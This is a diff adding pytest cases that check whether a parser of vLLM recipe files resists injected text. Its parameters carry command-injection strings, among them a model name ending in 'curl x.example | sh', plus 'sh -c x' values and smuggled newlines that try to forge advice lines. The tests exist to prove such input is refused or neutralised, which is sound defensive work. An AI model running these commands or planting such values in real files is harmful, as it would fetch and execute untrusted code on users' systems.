@@ -425,7 +425,34 @@ def test_a_recipe_of_vllm_s_own_collection_is_read() -> None:
     whys = {each.key: each.why for each in found.entries}
     assert "--speculative-config" in whys["features.spec"]
     assert "medley plan a/b-FP8" in whys["variants.fp8"]
+    assert whys["variants.fp8"] == "another build (fp8, 38 GB): medley plan a/b-FP8"
     assert found.image == "vllm/vllm-openai:x"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "outcome"),
+    [
+        pytest.param("a/b-FP8", "'a/b; curl x.example | sh'", "refused", id="a command"),
+        pytest.param("a/b-FP8", "--x/y", "refused", id="an option"),
+        pytest.param(
+            "precision: fp8", 'precision: "8): medley plan x; curl x.example"', "decided", id="precision"
+        ),
+        pytest.param("38", '"1 GB): sh -c x"', "decided", id="memory"),
+        pytest.param("  fp8:", '  "fp8: y\\nlook first: sh -c x":', "decided", id="a name"),
+        pytest.param(
+            "[single_node_tp]", '[x]\ndependencies: ["x\\nlook first: sh -c x"]', "decided", id="a reason"
+        ),
+    ],
+)
+def test_the_words_of_an_author_forge_no_advice(old: str, new: str, outcome: str) -> None:
+    found = made(VLLM_RECIPE.replace(old, new))
+    (other,) = (each for each in found.entries if each.key.startswith("variants."))
+    assert other.outcome == outcome
+    assert ": medley plan a/b-FP8" in other.why or outcome == "refused"
+    assert not other.why.startswith(("another build (8", "another build (fp8, 1"))
+    assert [
+        part for each in found.entries for part in (each.key, each.why) if len(part.splitlines()) > 1
+    ] == []
 
 
 def shown(raw: bytes) -> None:
